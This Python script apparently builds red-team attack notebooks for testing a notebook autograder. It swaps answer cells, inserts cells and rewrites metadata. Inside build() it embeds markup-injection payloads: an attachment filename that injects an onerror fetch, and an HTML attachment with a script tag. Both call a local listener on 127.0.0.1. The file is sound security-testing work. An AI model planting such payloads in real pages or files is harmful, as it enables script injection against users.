"""Builds red-team round 6's submissions (tests/attacks6/*.ipynb) from notebooks/.

Each attack is a released notebook with its answer cells (by grade_id) replaced, and optionally code
cells inserted after a grade_id ("+grade_id" keys) or at the start ("+start"). Run from the repository
root: `.venv/bin/python tests/attacks6/build.py [OUTDIR]` writes one folder per attack
(OUTDIR/<attack>/<notebook>.ipynb), the layout `grade` reads, and the .ipynb files beside this script.
"""
import json
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
sys.path.insert(0, str(HERE))
from attacks import ATTACKS  # noqa: E402


def notebook_path(nn):
    return next((ROOT / "notebooks").glob(f"{nn}_*.ipynb"))


def build(nn, cells):
    path = notebook_path(nn)
    nb = json.loads(path.read_text())
    out = []
    for key, _src in cells.items():
        if key.startswith(("+", "=", "@")):
            continue
        if not any(c["metadata"].get("nbgrader", {}).get("grade_id") == key for c in nb["cells"]):
            raise SystemExit(f"{nn}: no cell {key}")
    for index, cell in enumerate(nb["cells"]):
        gid = cell["metadata"].get("nbgrader", {}).get("grade_id")
        if f"@{index}" in cells:
            cell["source"] = cells[f"@{index}"]
        if gid in cells:
            cell["source"] = cells[gid]
        out.append(cell)
        if gid and "+" + gid in cells:
            out.append({"cell_type": "code", "execution_count": None, "metadata": {},
                        "outputs": [], "source": cells["+" + gid]})
    if "+start" in cells:
        out.insert(1, {"cell_type": "code", "execution_count": None, "metadata": {},
                       "outputs": [], "source": cells["+start"]})
    if "=md" in cells:
        png = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")
        out.insert(1, {"cell_type": "markdown", "metadata": {}, "source": cells["=md"],
                       "attachments": {"a\" onerror=\"fetch('http://127.0.0.1:18953/attach')\".png": {"image/png": png},
                                       "x.png": {"image/png": png, "text/html": "<script>fetch('http://127.0.0.1:18953/attach-html')</script>"}}})
    nb["cells"] = out
    if "=nbmeta" in cells:
        nb["metadata"].update(cells["=nbmeta"])
    if "=testtags" in cells:
        for cell in nb["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("grade"):
                cell["metadata"]["tags"] = list(cells["=testtags"])
    return path.name, nb


def main():
    outdir = Path(sys.argv[1]) if len(sys.argv) > 1 else None
    only = sys.argv[2:]
    for name, (nn, cells) in ATTACKS.items():
        if only and name not in only:
            continue
        fname, nb = build(nn, cells)
        text = json.dumps(nb, indent=1, ensure_ascii=False) + "\n"
        (HERE / f"{name}.ipynb").write_text(text)
        if outdir:
            (outdir / name).mkdir(parents=True, exist_ok=True)
            (outdir / name / fname).write_text(text)


if __name__ == "__main__":
    main()
